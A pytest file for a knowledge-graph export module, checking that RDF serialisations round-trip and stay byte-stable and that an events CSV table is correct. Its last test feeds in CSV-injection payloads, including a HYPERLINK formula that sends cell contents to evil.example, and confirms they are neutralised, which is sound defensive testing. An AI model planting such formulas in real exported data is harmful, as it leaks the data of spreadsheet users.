"""kg.formats: every export round-trips to the same quads, is byte-stable, and the event table is right."""

from __future__ import annotations

from dataclasses import replace

import csv
import io

import pytest
from rdflib import XSD, Dataset, Graph
from rdflib.compare import isomorphic
from typer.testing import CliRunner

from kg import formats
from kg.cli import app
from kg.errors import InputError
from kg.graph import to_dataset, union
from kg.vocab import KG
from tests.conftest import make_sample_corpus

EVENT_COLUMNS = [
    "date", "date_source", "actor", "actor_country", "actor_sector", "cameo", "plover", "action", "modality",
    "target", "target_country", "target_sector", "source_count", "first_source", "event",
]


@pytest.fixture(scope="module")
def ds() -> Dataset:
    return to_dataset(make_sample_corpus())


def quads(d: Dataset) -> set:
    default = d.default_graph.identifier
    return {(s, p, o, None if g == default else g) for s, p, o, g in d.quads((None, None, None, None))}


def test_ntriples_is_the_sorted_union(ds):
    text = formats.export(ds, "nt")
    lines = text.splitlines()
    assert lines == sorted(lines)
    assert isomorphic(Graph().parse(data=text, format="nt"), union(ds))


@pytest.mark.parametrize(("fmt", "rdflib_format"), [("nq", "nquads"), ("trig", "trig"), ("jsonld", "json-ld")])
def test_named_graph_formats_round_trip(ds, fmt, rdflib_format):
    back = Dataset().parse(data=formats.export(ds, fmt), format=rdflib_format)
    assert quads(back) == quads(ds)
    assert len({g for *_, g in quads(back)}) == 3  # d1, d2 and the corpus graph


@pytest.fixture(params=["orjson", "json"])
def jsonld_writer(request, monkeypatch) -> str:
    """Run the test with each of the two JSON writers rdflib's JSON-LD serialiser may pick."""
    import rdflib.plugins.serializers.jsonld as rdflib_jsonld

    if request.param == "orjson":
        monkeypatch.setattr(rdflib_jsonld, "orjson", pytest.importorskip("orjson"))
    monkeypatch.setattr(rdflib_jsonld, "_HAS_ORJSON", request.param == "orjson")
    return request.param


@pytest.mark.parametrize("quantity", [12000, 2**63, -(10**23), 10**30])
def test_jsonld_writes_integers_exactly_whichever_json_writer_runs(jsonld_writer, quantity):
    """A quantity beyond 64 bits made orjson raise; as a JSON number, JSON-LD readers take 10**21 and up as a double."""
    from dataclasses import replace

    sample = make_sample_corpus()
    corpus = replace(sample, events=(sample.events[0], replace(sample.events[1], quantity=quantity)))
    text = formats.export(to_dataset(corpus), "jsonld")
    assert f'"kg:quantity": "{quantity}"' in text
    assert quads(Dataset().parse(data=text, format="json-ld")) == quads(to_dataset(corpus))
    import pyoxigraph as ox

    (read,) = [q.object for q in ox.parse(text.encode("utf-8"), format=ox.RdfFormat.JSON_LD) if q.predicate == ox.NamedNode(KG.quantity)]
    assert read == ox.Literal(str(quantity), datatype=ox.NamedNode(str(XSD.integer)))


def test_jsonld_bytes_do_not_depend_on_which_json_writer_runs(ds, monkeypatch):
    import rdflib.plugins.serializers.jsonld as rdflib_jsonld

    monkeypatch.setattr(rdflib_jsonld, "orjson", pytest.importorskip("orjson"))
    monkeypatch.setattr(rdflib_jsonld, "_HAS_ORJSON", True)
    with_orjson = formats.export(ds, "jsonld")
    monkeypatch.setattr(rdflib_jsonld, "_HAS_ORJSON", False)
    assert formats.export(ds, "jsonld") == with_orjson


def test_turtle_is_the_union(ds):
    assert isomorphic(Graph().parse(data=formats.export(ds, "ttl"), format="turtle"), union(ds))


@pytest.mark.parametrize("fmt", sorted(formats.EXPORTS))
def test_exports_are_deterministic_and_the_same_from_a_file(ds, fmt, tmp_path):
    path = tmp_path / "graph.trig"
    path.write_text(ds.serialize(format="trig"), encoding="utf-8")
    assert formats.export(ds, fmt) == formats.export(to_dataset(make_sample_corpus()), fmt) == formats.export(path, fmt)


def test_event_table(ds):
    table = list(csv.DictReader(io.StringIO(formats.export(ds, "events-csv"))))
    assert list(table[0]) == EVENT_COLUMNS
    assert [(r["date"], r["date_source"], r["actor"], r["actor_country"], r["cameo"], r["plover"], r["modality"], r["target"],
             r["target_country"], r["source_count"], r["first_source"]) for r in table] == [
        ("2024-10", "text", "North Korea", "PRK", "15", "MOBILIZE", "asserted", "Russia", "RUS", "1",
         "North Korea sent 12,000 troops to Russia last month."),
        # no date in the text: its article's, marked; weighing an arms supply is coded "consider" (014), not aid (07)
        ("2024-11-14", "article", "South Korea", "KOR", "014", "AID", "considered", "Ukraine", "UKR", "1",
         "South Korea is weighing supplying arms to Ukraine. Seoul said so."),
    ]


def test_unknown_format_writes_nothing(ds, tmp_path):
    out = tmp_path / "out.xyz"
    with pytest.raises(InputError, match="unknown export format 'xyz'; choose one of: nt, nq, trig, ttl, jsonld, events-csv"):
        formats.write_export(ds, "xyz", out)
    assert list(tmp_path.iterdir()) == []


def test_unreadable_graph_is_an_input_error(tmp_path):
    bad = tmp_path / "bad.ttl"
    bad.write_text("this is not turtle", encoding="utf-8")
    with pytest.raises(InputError, match="bad.ttl: cannot parse as turtle"):
        formats.export(bad, "nt")


def test_cli_export(ds, tmp_path):
    src = tmp_path / "graph.trig"
    src.write_text(ds.serialize(format="trig"), encoding="utf-8")
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(app, ["export", "events-csv", str(src), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").splitlines()[0] == ",".join(EVENT_COLUMNS)
    result = CliRunner().invoke(app, ["export", "nq", str(src)])
    assert len(result.stdout.splitlines()) == len(quads(ds))


@pytest.mark.parametrize("fmt", ["trig", "ttl"])
def test_writing_in_chunks_gives_the_bytes_of_one_chunk(ds, fmt, monkeypatch):
    """The spool hands Oxigraph a few statements at a time; cutting only between graphs/subjects keeps the bytes."""
    whole = formats.export(ds, fmt)
    groups: dict = {}
    for s, p, o, g in ds.quads((None, None, None, None)):
        groups.setdefault(g if fmt == "trig" else s, set()).add((s, p, o))
    monkeypatch.setattr(formats, "CHUNK", max(map(len, groups.values())) // 4 + 1)  # no group is cut inside
    calls = []
    real = formats.ox.serialize
    monkeypatch.setattr(formats.ox, "serialize", lambda *a, **kw: calls.append(1) or real(*a, **kw))
    assert formats.export(ds, fmt) == whole
    assert len(calls) > 2  # it did write in several chunks
    assert whole.count("@prefix") == len(set(whole.split("@prefix"))) - 1  # the prefix lines are written once


def test_the_quad_spool_on_disk_sorts_and_deduplicates(ds, tmp_path):
    """Quads added twice and in reverse order come out once each, sorted, as from memory."""
    with formats.SortedQuads(tmp_path / "q.sqlite") as spool:
        for _ in range(2):
            for g in sorted({g for *_, g in ds.quads((None, None, None, None))}, key=str, reverse=True):
                text = lambda term: str(formats._ox_term(term))  # noqa: E731
                spool.add(text(g), ((text(s), text(p), text(o)) for s, p, o in reversed(sorted(ds.graph(g)))))
        out = io.BytesIO()
        spool.write_trig(out)
    assert out.getvalue().decode("utf-8") == formats.to_trig(ds)
    assert quads(Dataset().parse(data=formats.to_trig(ds), format="trig")) == quads(ds)


@pytest.mark.parametrize("block", [0, 2])
def test_graphs_kept_whole_or_a_quad_a_row_give_the_same_bytes(ds, tmp_path, monkeypatch, block):
    """A graph of up to BLOCK statements is one row of the spool, a larger one (or one added to again) a row per
    quad: any mix of both, graphs added twice included, writes what a spool of all whole graphs writes."""
    text = lambda term: str(formats._ox_term(term))  # noqa: E731
    graphs = sorted({g for *_, g in ds.quads((None, None, None, None))}, key=str, reverse=True)

    def write(name: str, twice: set) -> tuple[bytes, bytes]:
        with formats.SortedQuads(tmp_path / f"{name}.sqlite") as spool:
            for g in graphs + [g for g in graphs if g in twice]:
                spool.add(text(g), ((text(s), text(p), text(o)) for s, p, o in sorted(ds.graph(g))))
            trig, ttl = io.BytesIO(), io.BytesIO()
            spool.write_trig(trig)
            spool.write_turtle(ttl)
        return trig.getvalue(), ttl.getvalue()

    whole = write("whole", set())
    monkeypatch.setattr(formats, "BLOCK", block)
    assert write("mixed", set(graphs[::2])) == whole
    assert len({len(ds.graph(g)) > block for g in graphs}) == 2 or block == 0  # (some graphs each way)


def test_a_namespace_with_an_odd_local_name_is_written_with_full_iris():
    """Oxigraph would write doc:a\\%20b, which rdflib cannot read: that namespace gets no prefix at all."""
    from rdflib import Literal, URIRef

    from kg.vocab import DOC, KG

    g = Dataset()
    g.graph(URIRef(DOC["a%20b"])).add((DOC["a%20b"], KG.key, Literal("x")))
    g.graph(URIRef(DOC["plain"])).add((DOC["plain"], KG.key, Literal("y")))
    text = formats.to_trig(g)
    assert "@prefix doc:" not in text and f"<{DOC['a%20b']}>" in text and "@prefix kg:" in text
    assert quads(Dataset().parse(data=text, format="trig")) == quads(g)


def test_a_group_larger_than_the_chunks_is_cut_and_reads_back_the_same(monkeypatch):
    """One subject with many triples (an event told by many articles) must not be held whole by the writer."""
    from rdflib import Literal, URIRef

    from kg.vocab import EVT, KG, MEN

    ds = Dataset()
    g = ds.graph(URIRef("https://example.org/g"))
    for n in range(30):
        g.add((EVT["e1"], KG.mention, MEN[f"d{n:02d}-1"]))
    g.add((EVT["e2"], KG.key, Literal("x")))
    monkeypatch.setattr(formats, "CHUNK", 3)
    trig, ttl = formats.to_trig(ds), formats.to_turtle(ds)
    assert trig.count("<https://example.org/g> {") > 1  # the block was restated
    assert quads(Dataset().parse(data=trig, format="trig")) == quads(ds)
    assert isomorphic(Graph().parse(data=ttl, format="turtle"), union(ds))
    assert (trig, ttl) == (formats.to_trig(ds), formats.to_turtle(ds))


def test_event_table_gives_full_cameo_codes_and_sectors():
    from tests.test_graph import _with_roles

    corpus = _with_roles()
    corpus = replace(corpus, entities=tuple(replace(e, sector="MIL") if e.key == "PRK" else e for e in corpus.entities))
    table = list(csv.DictReader(io.StringIO(formats.export(to_dataset(corpus), "events-csv"))))
    assert [(r["actor"], r["cameo"], r["actor_sector"]) for r in table] == [("North Korea", "0234", "MIL"), ("South Korea", "014", "")]


def test_event_table_cells_that_a_spreadsheet_would_run_are_neutralised():
    """OWASP, CSV Injection: a cell that starts with = + - @ (or tab, CR) is a formula to a spreadsheet."""
    import dataclasses

    from kg.model import Document

    sample = make_sample_corpus()
    # the source column shows a document's title: titles and ids come from the articles
    documents = (Document("=HYPERLINK(\"http://evil.example/?\"&A1)", sample.documents[0].text, "2024-11-14",
                          title="=HYPERLINK(\"http://evil.example/?\"&A1)"),
                 dataclasses.replace(sample.documents[1], id="@SUM(1+1)", title="@SUM(1+1)"))
    entities = tuple(dataclasses.replace(e, label="-2+3 Korea") if e.key == "KOR" else e for e in sample.entities)
    mentions = tuple(dataclasses.replace(m, doc_id=documents[0].id if m.doc_id == "d1" else documents[1].id) for m in sample.mentions)
    events = tuple(dataclasses.replace(e, evidence=tuple(dataclasses.replace(v, doc_id=documents[0].id if v.doc_id == "d1" else documents[1].id)
                                                          for v in e.evidence)) for e in sample.events)
    table = list(csv.DictReader(io.StringIO(formats.export(to_dataset(dataclasses.replace(
        sample, documents=documents, entities=entities, mentions=mentions, events=events)), "events-csv"))))
    assert [(r["actor"], r["first_source"]) for r in table] == [
        ("North Korea", "'@SUM(1+1)"),
        ("'-2+3 Korea", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
    ]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in table for value in row.values())
